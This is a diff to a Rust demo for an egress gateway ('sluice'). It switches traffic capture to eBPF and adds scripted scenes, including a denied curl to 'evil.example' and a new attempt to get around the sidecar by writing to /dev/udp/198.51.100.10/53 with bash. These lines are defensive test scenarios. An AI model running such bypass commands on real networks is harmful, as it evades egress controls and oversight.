@@ -5,6 +5,7 @@
 //! plain `curl`. Each scene makes a real request and shows the answer, what the server outside
 //! saw, and the gateway's access log; a scene that does not go as told ends the demo with an error.
 
+mod around;
 mod outside;
 mod scene;
 mod show;
@@ -12,7 +13,7 @@ mod show;
 use std::process::ExitCode;
 use std::time::Instant;
 
-use sluice_tests::mesh::{GATEWAY_POD, GATEWAY_SOURCE, Mesh};
+use sluice_tests::mesh::{Capture, GATEWAY_POD, GATEWAY_SOURCE, Mesh};
 
 use outside::Outside;
 use show::Show;
@@ -31,6 +32,8 @@ fn main() -> ExitCode {
     let outside = Outside::start(&mesh, outside);
     show.progress("starting the egress gateway and waiting for its Envoy");
     mesh.start_gateway();
+    // By eBPF, with the guard: the apps are plain curl, and have no other way out.
+    mesh.capture = Capture::Ebpf;
     show.progress("starting two apps, shop/checkout and lab/batch, with their sidecars");
     mesh.start_pod("shop", "checkout", "checkout-0", "10.244.1.10");
     mesh.start_pod("lab", "batch", "batch-0", "10.244.1.11");
@@ -71,6 +74,10 @@ fn keep(show: &Show, mesh: &Mesh) {
         (
             "a denied request",
             format!("{app} curl -i http://evil.example/ --connect-to ::198.51.100.99:80"),
+        ),
+        (
+            "an attempt to get around the sidecar",
+            format!("{app} bash -c 'echo tunnelled >/dev/udp/198.51.100.10/53'"),
         ),
         (
             "what is behind the gateway's addresses",
